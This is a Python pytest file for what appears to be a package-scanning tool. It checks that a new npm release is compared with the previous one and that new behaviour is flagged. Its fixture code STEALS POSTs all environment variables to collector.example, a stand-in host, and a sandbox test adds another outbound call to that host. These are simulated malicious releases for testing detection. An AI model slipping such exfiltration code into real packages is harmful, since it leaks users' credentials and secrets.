"""The release before: which one it is, where what was seen of it comes from, and what becomes of its failure."""

import io
import json
import tarfile
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from biopsy import ecosystems
from biopsy.ecosystems.npm import configuration
from biopsy.ecosystems.order import earlier
from biopsy.errors import UsageError
from biopsy.model.dossier import Analysis
from biopsy.pipeline import Options, Pair, analyze, compare, show

CALM = "exports.colour = () => process.env.NO_COLOR\n"
STEALS = CALM + "fetch('https://collector.example/', {method: 'POST', body: JSON.stringify(process.env)})\n"


def packed(version: str, code: str, **more: object) -> bytes:
    files = {
        "package.json": json.dumps({"name": "sim-colour", "version": version, "main": "index.js", **more}),
        "index.js": code,
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, text in files.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(text)
            tar.addfile(info, io.BytesIO(text.encode()))
    return buffer.getvalue()


Publish = Callable[..., None]


@pytest.fixture(scope="module")
def registry() -> Iterator[tuple[str, dict[str, bytes]]]:
    """A registry on the loopback address: where it is, and its pages."""
    pages: dict[str, bytes] = {}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = pages.get(self.path)
            self.send_response(200 if body is not None else 404)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(body or b"")))
            self.end_headers()
            self.wfile.write(body or b"")

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("npm_config_registry", url)
        configuration.endpoint.cache_clear()
        yield url, pages
        configuration.endpoint.cache_clear()
    server.shutdown()
    server.server_close()


@pytest.fixture
def publish(registry: tuple[str, dict[str, bytes]]) -> Publish:
    """Publish a version of the one package there is; one without code cannot be fetched."""
    url, pages = registry
    pages.clear()
    versions: dict[str, dict[str, object]] = {}

    def put(version: str, code: str | None) -> None:
        if code is not None:
            pages[f"/sim-colour-{version}.tgz"] = packed(version, code)
        dist = {"tarball": f"{url}sim-colour-{version}.tgz"}
        versions[version] = {"name": "sim-colour", "version": version, "dist": dist}
        document = {"name": "sim-colour", "versions": versions, "dist-tags": {"latest": max(versions)}}
        pages["/sim-colour"] = json.dumps(document).encode()

    return put


def quiet(_text: str, _done: float | None) -> None:
    pass


def read(target: object, home: Path, **options: object) -> Analysis:
    (analysis,) = analyze(str(target), Options(home=home, static_only=True, **options), quiet)  # type: ignore[arg-type]
    return analysis


def since(analysis: Analysis) -> tuple[str, list[str]]:
    assert analysis.comparison is not None
    return analysis.comparison.before.release.version, [one.what for one in analysis.comparison.new]


@pytest.mark.parametrize(
    ("ecosystem", "versions", "here", "chosen"),
    [
        ("npm", ["1.0.0", "1.1.0", "2.0.0"], "2.0.0", "1.1.0"),
        ("npm", ["1.0.0", "2.0.0-rc.1", "2.0.0"], "2.0.0", "1.0.0"),
        ("npm", ["1.0.0", "2.0.0-rc.1", "2.0.0-rc.2"], "2.0.0-rc.2", "2.0.0-rc.1"),
        ("npm", ["2.0.0-rc.1", "2.0.0"], "2.0.0", "2.0.0-rc.1"),
        ("npm", ["1.9.0", "1.10.0", "1.11.0"], "1.11.0", "1.10.0"),
        ("npm", ["1.0.0"], "1.0.0", None),
        ("pypi", ["1.0", "1.1.dev3", "1.1rc1", "1.1"], "1.1", "1.0"),
        ("pypi", ["1.0", "1.0.post1", "1.1"], "1.1", "1.0.post1"),
        ("pypi", ["0.9", "0.10", "0.11"], "0.11", "0.10"),
    ],
)  # fmt: skip
def test_the_release_before_is_the_newest_earlier_one_of_its_sort(
    ecosystem: str, versions: list[str], here: str, chosen: str | None
) -> None:
    known = ecosystems.by_type(ecosystem)
    assert earlier(sorted(versions, key=known.version_key), here, known.prerelease) == chosen


def test_a_release_is_compared_with_the_one_before_it_which_is_read_for_that(
    publish: Publish, tmp_path: Path
) -> None:
    publish("1.0.0", CALM)
    publish("1.0.1", STEALS)
    analysis = read("npm:sim-colour", tmp_path)
    version, new = since(analysis)
    assert version == "1.0.0"
    assert "collector.example" in new
    assert any(finding.rule.startswith("change/") for finding in analysis.findings)


def test_what_is_kept_of_it_is_not_read_again(publish: Publish, tmp_path: Path) -> None:
    publish("1.0.0", CALM)
    first = read("npm:sim-colour", tmp_path)
    publish("1.0.1", STEALS)
    second = read("npm:sim-colour", tmp_path)
    assert first.comparison is None
    assert second.dossier.against == first.dossier.run_id


def test_a_comparison_is_shown_again_as_it_was(publish: Publish, tmp_path: Path) -> None:
    publish("1.0.0", CALM)
    publish("1.0.1", STEALS)
    analysis = read("npm:sim-colour", tmp_path)
    publish("1.0.0.1", CALM)
    assert show(tmp_path, analysis.dossier.run_id).comparison == analysis.comparison


def test_its_failure_is_a_note_and_no_error(publish: Publish, tmp_path: Path) -> None:
    publish("1.0.0", None)
    publish("1.0.1", CALM)
    comparison = read("npm:sim-colour", tmp_path).comparison
    assert comparison is not None
    assert comparison.empty
    assert "sim-colour-1.0.0.tgz" in comparison.note


def test_no_comparison_is_made_where_none_is_wanted(publish: Publish, tmp_path: Path) -> None:
    publish("1.0.0", CALM)
    publish("1.0.1", STEALS)
    analysis = read("npm:sim-colour", tmp_path, against="none")
    assert analysis.comparison is None
    assert show(tmp_path, analysis.dossier.run_id).comparison is None


def test_a_local_file_is_compared_with_what_is_kept_or_named(tmp_path: Path) -> None:
    files = {version: tmp_path / f"sim-colour-{version}.tgz" for version in ("1.0.0", "1.0.1")}
    files["1.0.0"].write_bytes(packed("1.0.0", CALM))
    files["1.0.1"].write_bytes(packed("1.0.1", STEALS))
    assert read(files["1.0.1"], tmp_path / "a").comparison is None
    named = read(files["1.0.1"], tmp_path / "b", against=str(files["1.0.0"]))
    kept = read(files["1.0.0"], tmp_path / "c")
    assert since(named) == since(read(files["1.0.1"], tmp_path / "c"))
    assert since(named) == since(read(files["1.0.1"], tmp_path / "c", against=kept.dossier.run_id))


def test_what_is_named_and_is_not_there_is_the_users_mistake(tmp_path: Path) -> None:
    file = tmp_path / "sim-colour-1.0.0.tgz"
    file.write_bytes(packed("1.0.0", CALM))
    for wrong in ("20200101-000000-00000000", str(tmp_path / "nowhere.tgz")):
        with pytest.raises(UsageError):
            read(file, tmp_path / "home", against=wrong)


def _compare(before: Path, after: Path, home: Path) -> Pair:
    return compare(str(before), str(after), Options(home=home, static_only=True), quiet)


def test_two_files_beside_each_other_worry_one_way_round(tmp_path: Path) -> None:
    old, new = tmp_path / "old.tgz", tmp_path / "new.tgz"
    old.write_bytes(packed("1.0.0", CALM))
    new.write_bytes(packed("1.0.1", STEALS))
    assert _compare(old, new, tmp_path / "home").worrying
    assert not _compare(new, old, tmp_path / "home").worrying


def test_the_same_file_twice_is_the_very_same(tmp_path: Path) -> None:
    file = tmp_path / "sim-colour-1.0.0.tgz"
    file.write_bytes(packed("1.0.0", CALM))
    comparison = _compare(file, file, tmp_path / "home").after.comparison
    assert comparison is not None
    assert comparison.identical


@pytest.mark.sandbox
def test_a_run_differs_from_that_of_the_release_before_in_nothing_but_what_is_new(
    tmp_path: Path, home: Path
) -> None:
    spawns = "require('child_process').execSync('uname -a'); require('fs').writeFileSync('/tmp/x' + process.pid, '')\n"
    old, new = tmp_path / "old.tgz", tmp_path / "new.tgz"
    old.write_bytes(packed("1.0.0", spawns))
    new.write_bytes(
        packed("1.0.1", spawns + "require('https').get('https://collector.example/').on('error', () => 0)\n")
    )
    options = Options(home=home, profiles=("laptop",), phases=("install", "import"))
    comparison = compare(str(old), str(new), options, quiet).after.comparison
    assert comparison is not None
    told = {(one.facet.value, one.what) for one in (*comparison.new, *comparison.gone, *comparison.changed)}
    assert told == {("host", "collector.example")}
